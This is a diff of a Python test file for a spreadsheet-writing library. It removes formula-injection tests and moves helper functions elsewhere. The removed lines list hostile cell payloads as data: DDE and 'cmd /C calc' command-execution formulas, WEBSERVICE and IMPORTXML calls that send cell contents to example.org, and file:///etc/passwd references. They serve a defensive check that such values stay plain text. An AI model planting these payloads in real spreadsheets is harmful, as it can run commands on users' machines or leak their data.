@@ -1,11 +1,10 @@
-"""What people open is what we meant: a text stays a text, and the same data the same bytes."""
+"""What people open is what we meant: sheets, charts, pages, and the same data the same bytes."""
 
 # ruff: noqa: DTZ001 - cells of spreadsheets have no time zone
 
 from __future__ import annotations
 
 import os
-import re
 import stat
 import subprocess
 import sys
@@ -14,210 +13,42 @@ import tracemalloc
 from dataclasses import replace
 from datetime import UTC, date, datetime, time
 from decimal import Decimal
-from itertools import accumulate, pairwise, product
+from itertools import accumulate, pairwise
 from pathlib import Path
 from zipfile import ZipFile
 
 import openpyxl
 import pytest
-from hypothesis import HealthCheck, given, settings
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from consultation.workbooks import (
     MAX_CELL_UNITS,
     Chart,
     Column,
-    Heading,
     KeyValueRows,
     Kind,
     Page,
     Paragraph,
     Sheet,
     Table,
-    Workbook,
-    fits_a_cell,
-    readable,
     write_workbook,
 )
 from consultation.workbooks.blocks import GAP, Layout, Sizes, lay_out
 from tests.cases.libreoffice import flat_xml_of, page_count, sheets_of
 from tests.cases.places import ROOT
-from tests.cases.workbook_example import DATE, example, participation, questions
+from tests.cases.workbook_example import (
+    DATE,
+    column_read,
+    example,
+    participation,
+    questions,
+    sheet_of,
+    written,
+)
 
 HEADER_ROW = 4
 """Of a sheet with a way back and one sentence: title, way back, sentence, header."""
-
-
-def workbook_of(*sheets: Sheet | Page) -> Workbook:
-    return Workbook("Essai", "Essai", "faire-masse", DATE, sheets)
-
-
-def sheet_of(rows, *kinds: Kind, title: str = "Feuille", **table) -> Sheet:
-    columns = tuple(Column(f"Colonne {n}", kind) for n, kind in enumerate(kinds))
-    return Sheet(title, (), Table("table_1", columns, rows, **table))
-
-
-def written(folder: Path, *sheets: Sheet | Page) -> Path:
-    path = folder / "classeur.xlsx"
-    write_workbook(path, workbook_of(*sheets))
-    return path
-
-
-def column_read(path: Path, first_row: int = 3) -> list[object]:
-    """The first column of the first sheet, below a title and a header."""
-    sheet = openpyxl.load_workbook(path).worksheets[0]
-    return [row[0] for row in sheet.iter_rows(min_row=first_row, max_col=1, values_only=True)]
-
-
-# --- texts -----------------------------------------------------------------------------------
-
-BODIES = (
-    "1+1",
-    "SUM(A1:A9)",
-    'HYPERLINK("http://example.org","clic")',
-    'WEBSERVICE("http://example.org/"&A1)',
-    'IMPORTXML("http://example.org","//a")',
-    "cmd|' /C calc'!A0",
-    'DDE("cmd";"/C calc";"x")',
-    "A1",
-    "Feuille!A1",
-    "'file:///etc/passwd'#$x.A1",
-    "#REF!",
-    "0123",
-    "é",
-    "",
-    "_x000D_1",
-)
-STARTS = (
-    "==",
-    "=+",
-    "=-",
-    "-=",
-    "@=",
-    "\u200b=",
-    "\u00a0=",
-    "=",
-    "+",
-    "-",
-    "@",
-    "\t=",
-    "\r=",
-    "\n=",
-    " =",
-    "'=",
-    '"=',
-    "{=",
-    "＝",
-    "＋",
-    "－",
-    "＠",
-)
-WHOLE = (
-    *("#N/A", "#REF!", "#DIV/0!", "#NAME?", "#NULL!", "#NUM!", "#VALUE!"),
-    *("http://example.org", "mailto:a@example.org", "file:///etc/passwd", "\\\\serveur\\partage"),
-    *("TRUE", "VRAI", "1E5", "0012", "12/03/2022", "=", "==", "'", "''", "-", "--", "+33612345678"),
-    *("_x003D_1+1", "a_x000D_b", "_x005F_x000D_", "_x_x0041_", "x005F_", "_xZZZZ_"),
-)
-PAYLOADS = tuple(dict.fromkeys([*WHOLE, *(a + b for a, b in product(STARTS, BODIES))]))
-# Only what the format cannot hold at all, and the ends of lines, may come back otherwise.
-any_character = st.characters() | st.sampled_from(
-    "\x00\t\n\x0b\r\x1f\x7f\x85\u2028\ud800\udfff\ufffe\uffff🦊"
-)
-any_text = st.text(any_character, max_size=60)
-escape_like_text = st.lists(
-    st.sampled_from(["_", "x", "_x", "005F", "000d", "0041_", "_x000D_", "é", "\n", " "]),
-    max_size=12,
-).map("".join)
-
-
-def test_there_are_300_payloads():
-    assert len(PAYLOADS) >= 300
-
-
-def test_payloads_in_cells_headers_sentences_and_titles_are_texts(tmp_path):
-    headers = [
-        Column(readable(p).replace("\n", " ") + f" {n}", Kind.TEXT) for n, p in enumerate(PAYLOADS)
-    ]
-    wide = Sheet("=1+1", PAYLOADS, Table("larges", tuple(headers), [PAYLOADS]))
-    page = Page(
-        "@SUM(1)",
-        (
-            *map(Heading, PAYLOADS),
-            *map(Paragraph, PAYLOADS),
-            KeyValueRows(tuple((p, p, None) for p in PAYLOADS), headings=("=1", "+1", "@1")),
-        ),
-    )
-    path = written(tmp_path, wide, page)
-
-    book = openpyxl.load_workbook(path)
-    assert book.sheetnames == ["=1+1", "@SUM(1)"]
-    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
-    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
-    last = list(book.worksheets[0].iter_rows(values_only=True))[-1]
-    assert list(last) == [readable(payload) for payload in PAYLOADS]
-
-
-def test_payloads_in_rows_come_back_from_openpyxl(tmp_path):
-    path = written(tmp_path, sheet_of([(payload,) for payload in PAYLOADS], Kind.TEXT))
-
-    assert column_read(path) == [readable(payload) for payload in PAYLOADS]
-
-
-def test_nothing_links_out_of_the_workbook(tmp_path):
-    path = tmp_path / "classeur.xlsx"
-    write_workbook(path, example())
-
-    with ZipFile(path) as archive:
-        parts = {name: archive.read(name).decode() for name in archive.namelist()}
-    assert not [name for name, part in parts.items() if 'TargetMode="External"' in part]
-    assert not [name for name, part in parts.items() if "<f>" in part and "/charts/" not in name]
-    locations = re.findall(r'<hyperlink [^>]*location="([^"]*)"', "".join(parts.values()))
-    assert set(locations) == {"'Lisez-moi'!A1", "'Questions'!A1", "'Textes'!A1"}
-
-
-@pytest.mark.parametrize("payload", ["=1", "+1", "-1", "@1", "\t1", "'1"])
-def test_editing_a_cell_does_not_turn_its_text_into_a_formula(tmp_path, payload):
-    path = written(tmp_path, sheet_of([(payload,), ("1",)], Kind.TEXT))
-
-    sheet = openpyxl.load_workbook(path).active
-    assert [sheet.cell(row, 1).quotePrefix for row in (3, 4)] == [True, False]
-
-
-@given(any_text)
-def test_readable_keeps_all_that_can_be_kept(text):
-    cleaned = readable(text)
-
-    assert readable(cleaned) == cleaned
-    assert len(cleaned) == len(text.replace("\r\n", "\n"))
-    assert not re.search("[\x00-\x08\x0b-\x1f\ud800-\udfff\ufffe\uffff]", cleaned)
-    kept = re.sub("[\x00-\x08\x0b-\x1f\ud800-\udfff\ufffe\uffff]", "", text.replace("\r", "\n"))
-    if "\r\n" not in text and "\ufffd" not in text:
-        assert cleaned.replace("\ufffd", "") == kept
-
-
-@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
-@given(texts=st.lists(any_text | escape_like_text, min_size=1, max_size=20))
-def test_any_text_comes_back_as_readable_says(texts):
-    with tempfile.TemporaryDirectory() as folder:
-        path = written(Path(folder), sheet_of([(text,) for text in texts], Kind.TEXT))
-        read = column_read(path)
-
-    expected = [readable(text) or None for text in texts]
-    assert read + [None] * (len(expected) - len(read)) == expected
-
-
-def test_a_text_of_the_greatest_length_is_kept_whole_and_a_longer_one_refused(tmp_path):
-    longest = "é" * (MAX_CELL_UNITS - 2) + "🦊"
-    assert fits_a_cell(longest)
-    assert not fits_a_cell(longest + "é")
-
-    path = written(tmp_path, sheet_of([(longest,)], Kind.TEXT))
-    assert column_read(path) == [longest]
-
-    with pytest.raises(ValueError, match="Feuille, row 1, 'Colonne 0'") as caught:
-        written(tmp_path, sheet_of([(longest + "secret",)], Kind.TEXT))
-    assert "secret" not in str(caught.value)
-    assert column_read(path) == [longest]
 
 
 # --- numbers and dates -----------------------------------------------------------------------
@@ -569,30 +400,6 @@ def test_rows_are_not_held_in_memory(tmp_path):
 
 
 # --- LibreOffice -----------------------------------------------------------------------------
-
-
-@pytest.mark.libreoffice
-def test_libreoffice_reads_every_payload_as_the_text_it_is(tmp_path):
-    rows = [(payload, f"fin {n}") for n, payload in enumerate(PAYLOADS)]
-    path = written(tmp_path, sheet_of(rows, Kind.TEXT, Kind.TEXT))
-
-    read = sheets_of(path, tmp_path)["Feuille"][2:]
-    assert [tuple(row) for row in read] == [(readable(a), b) for a, b in rows]
-    document = flat_xml_of(path, tmp_path)
-    assert "table:formula" not in document
-    assert 'xlink:href="' not in document
-
-
-@pytest.mark.libreoffice
-@settings(max_examples=4, deadline=None, suppress_health_check=list(HealthCheck))
-@given(texts=st.lists(any_text | escape_like_text, min_size=150, max_size=300))
-def test_libreoffice_reads_any_text_as_readable_says(texts):
-    with tempfile.TemporaryDirectory() as folder:
-        rows = [(text, "fin") for text in texts]
-        path = written(Path(folder), sheet_of(rows, Kind.TEXT, Kind.TEXT))
-        read = sheets_of(path, Path(folder))["Feuille"][2:]
-
-    assert [row[0] for row in read] == [readable(text) for text in texts]
 
 
 @pytest.mark.libreoffice
